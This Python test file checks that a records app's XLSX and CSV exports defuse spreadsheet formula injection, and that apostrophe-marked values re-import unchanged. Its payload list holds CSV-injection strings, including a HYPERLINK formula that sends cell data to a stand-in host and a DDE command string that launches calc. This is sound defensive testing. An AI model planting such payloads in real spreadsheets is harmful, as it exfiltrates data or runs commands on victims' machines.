"""Text typed into the app never runs as a spreadsheet formula on the clerk's machine: XLSX
outputs write it as string cells, CSV files mark it with an apostrophe that the importer takes
away again, so what goes out comes back unchanged."""

import csv
import re
import zipfile
from datetime import date

import openpyxl
import pytest

from models.enums import UnitKind
from models.exports import write_table
from models.imports.common import run_import
from models.records import Problem
from models.reference import Campaign, Unit
from reports.outputs import ReportRequest, produce

AS_OF = date(2026, 6, 30)
# What an attacker (or a careless paste) types: each would run in Excel or LibreOffice.
PAYLOADS = ['=HYPERLINK("http://evil.test/?"&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "'=already marked"]


def _formulas(path) -> list[str]:
    """The workbook's sheets that hold a formula element (there must be none)."""
    with zipfile.ZipFile(path) as z:
        return [name for name in z.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<f[ >]", z.read(name))]


@pytest.fixture
def planted(store):
    with store.write("clerk") as w:
        unit = w.create(Unit, {"name": "=1+1", "kind": UnitKind.DEPARTMENT})
        campaign = w.create(Campaign, {"name": "=2026", "year": 2026})
        for text in PAYLOADS:
            w.create(Problem, {"campaign_id": campaign, "unit_id": unit, "description": text,
                               "responsible_person": "=A1", "measures": text,
                               "reported_on": date(2026, 3, 5), "deadline": date(2026, 6, 1)})
    return store


@pytest.mark.parametrize("kind", ["ledger", "overdue", "rankings"])
def test_report_text_is_never_a_formula(planted, tmp_path, kind):
    with planted.read() as conn:
        path = produce(kind, conn, ReportRequest(out=tmp_path / f"{kind}.xlsx", as_of=AS_OF))[0]
    assert _formulas(path) == []
    if kind == "rankings":
        return
    ws = openpyxl.load_workbook(path).active
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(PAYLOADS) <= texts and "=A1" in texts  # every value unchanged
    assert ("=2026整改台账" in texts) == (kind == "ledger")  # the title row too


def _names(store, table: str) -> set[str]:
    with store.read() as conn:
        return {r[0] for r in conn.exec_driver_sql(f"SELECT name FROM {table}")}


NAMES = ['=HYPERLINK("x")', "-王", "@张", "\t=1+1", "'=李", "''+赵", "'平常", "平常"]
MARKED = ["'=HYPERLINK(\"x\")", "'-王", "'@张", "'\t=1+1", "''=李", "'''+赵", "'平常", "平常"]


def test_csv_cells_are_defused_and_reimport_unchanged(store, tmp_path):
    rows = [[n, "citizen", "=乡", "+86 139 0000 0001", "@一组"] for n in NAMES]
    path = write_table(tmp_path / "代表.csv", ["name", "kind", "township", "phone", "team"],
                       [*rows, ["负数", "citizen", -5, "", ""]])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1:]
    # In the file: an apostrophe before anything a spreadsheet would run; numbers as they are.
    assert [r[0] for r in written[:-1]] == MARKED
    assert written[0][2:] == ["'=乡", "'+86 139 0000 0001", "'@一组"] and written[-1][2] == "-5"
    run_import(store, "representatives", path, profile="clerk")
    assert _names(store, "representative") == {*NAMES, "负数"}  # exactly what was exported
    assert _names(store, "team") == {"@一组"}
    with store.read() as conn:
        assert set(conn.exec_driver_sql("SELECT township, phone FROM representative "
                                        "WHERE name != '负数'")) == {("=乡", "+86 139 0000 0001")}


def test_rejects_file_is_defused_and_corrected_imports_as_typed(store, tmp_path):
    source = tmp_path / "units.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["名称", "类别", "上级单位"])
        out.writerow(["'=HYPERLINK(\"x\")", "department", ""])  # marked, as the app writes
        out.writerow(["@窗口", "service_window", "-no such parent"])  # rejected
    rejects = tmp_path / "rejects.csv"
    run_import(store, "units", source, profile="clerk", skip_invalid=True, rejects_path=rejects)
    assert _names(store, "unit") == {'=HYPERLINK("x")'}
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][:3] == ["'@窗口", "service_window", "'-no such parent"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    rows[1][2] = "'=HYPERLINK(\"x\")"  # corrected in a spreadsheet: the parent, still marked
    with rejects.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(row[:3] for row in rows)
    run_import(store, "units", rejects, profile="clerk")
    assert _names(store, "unit") == {'=HYPERLINK("x")', "@窗口"}
